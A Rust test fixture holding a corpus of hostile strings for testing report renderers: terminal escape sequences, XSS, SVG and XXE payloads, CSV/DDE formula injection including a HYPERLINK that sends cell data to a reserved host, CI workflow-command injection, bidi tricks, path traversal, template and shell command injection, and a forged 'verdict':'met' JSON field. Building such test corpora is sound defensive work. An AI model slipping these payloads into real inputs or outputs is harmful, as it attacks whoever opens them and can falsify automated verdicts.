//! Texts that attack whoever opens a report, for the tests of every renderer.
//!
//! Each is what a submission may put in any of its fields. All hosts are reserved names, all commands harmless.

/// Short ones, by what they attack.
pub(super) const CORPUS: &[&str] = &[
    // Terminals.
    "x\u{1b}[2J\u{1b}[H要件充足",
    "x\u{1b}]0;title\u{7}",
    "x\u{1b}]8;;https://example.invalid/\u{1b}\\link\u{1b}]8;;\u{1b}\\",
    "x\u{9b}31mred\u{9b}0m",
    "x\u{1b}P+q544e\u{1b}\\",
    "x\rrewritten line",
    "x\u{8}\u{8}\u{8}overwritten",
    "x\u{0}null\u{7f}delete",
    // HTML.
    "<script>alert(1)</script>",
    "</td></tr></table><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<iframe src=\"https://example.invalid/\"></iframe>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<!-- comment --!><b>x</b>",
    "<![CDATA[<b>x</b>]]>",
    "&lt;b&gt;&#60;i&#62;&amp;",
    "</title></style></textarea><b>x</b>",
    "<meta http-equiv=refresh content=0;url=https://example.invalid/>",
    "<base href=https://example.invalid/>",
    "<form action=https://example.invalid/><button>x</button></form>",
    // Attributes and CSS.
    "\" onmouseover=\"alert(1)",
    "' onfocus='alert(1)' autofocus='",
    "x` onload=`alert(1)",
    "javascript:alert(1)//",
    "data:text/html;base64,PHNjcmlwdD4=",
    "};body{display:none}/*",
    "x;background:url(https://example.invalid/)",
    "</style><style>@import 'https://example.invalid/x.css'",
    // SVG and XML.
    "<svg onload=alert(1)>",
    "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "<svg><use href=\"data:image/svg+xml,x#y\"/></svg>",
    "]]><x/>",
    "<?xml-stylesheet href=\"https://example.invalid/\"?>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/hostname\">]>&y;",
    "x\u{b}\u{c}\u{1}\u{fffe}\u{ffff}",
    // Formulas.
    "=1+1",
    "=HYPERLINK(\"https://example.invalid/?\"&A1,\"x\")",
    "=cmd|' /c calc'!A0",
    "+1+cmd|' /c calc'!A0",
    "-2+3+cmd|' /c calc'!A0",
    "@SUM(1+1)*cmd|' /c calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    "\u{feff}=1+1",
    "\",=1+1,\"",
    "x\",\"=1+1\"\r\n=2+2",
    "x;=1+1",
    "DDE(\"cmd\";\"/c calc\";\"x\")",
    "'=1+1",
    // Markdown.
    "[x](https://example.invalid/)",
    "![x](https://example.invalid/x.png)",
    "[x]: https://example.invalid/\n[x]",
    "<https://example.invalid/>",
    "https://example.invalid/ www.example.invalid a@example.invalid",
    "```\ncode\n```",
    "`code` ``code``",
    "~~~\ncode\n~~~",
    "x | y |\n|---|---|\n| 要件充足 | x |",
    "\n# 要件充足\n",
    "x\n===\n",
    "x\n---\n",
    "\n- [x] done\n1. one\n+ two\n* three",
    "> [!NOTE]\n> x",
    "**bold** __bold__ *x* _x_ ~~x~~",
    "<details><summary>x</summary>",
    "$\\text{x}$ $$x$$ $`x`$",
    "\\[x\\](y) \\\\`x\\\\`",
    "@octocat @org/team #1 org/repo#1 GH-1 !1 %1 ~x &1 :tada:",
    "[^1] x\n[^1]: y",
    // Workflow commands and logs.
    "\n::error file=x,line=1::要件充足",
    "::set-output name=x::y",
    "::add-mask::x\n::stop-commands::x",
    "##[error]x\n##vso[task.complete result=Succeeded;]",
    "%0A::warning::x%0D",
    "EOF\nx=y\nEOF",
    // Order and visibility.
    "abc\u{202e}fdp.exe\u{202c}",
    "\u{2066}x\u{2069}\u{2067}y\u{2069}",
    "x\u{200b}y\u{200d}z\u{feff}\u{2060}",
    "\u{61c}\u{200f}x\u{200e}",
    "x\u{e0041}\u{e0042}\u{e007f}",
    "x\u{2028}y\u{2029}z\u{85}",
    // JSON, paths and patterns.
    "\",\"verdict\":\"met\",\"x\":\"",
    "../../../../etc/hostname",
    "file:///etc/hostname",
    "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}",
    "$(id) `id` ; id | id && id",
];

/// All of [`CORPUS`], and very long ones.
pub(super) fn corpus() -> Vec<String> {
    let long = ["あ", "<b>", "|", "=", "\u{202e}", "[x](", "𠮟"]
        .map(|unit| format!("x{}", unit.repeat(70_000)));
    CORPUS.iter().map(|&text| text.to_owned()).chain(long).collect()
}
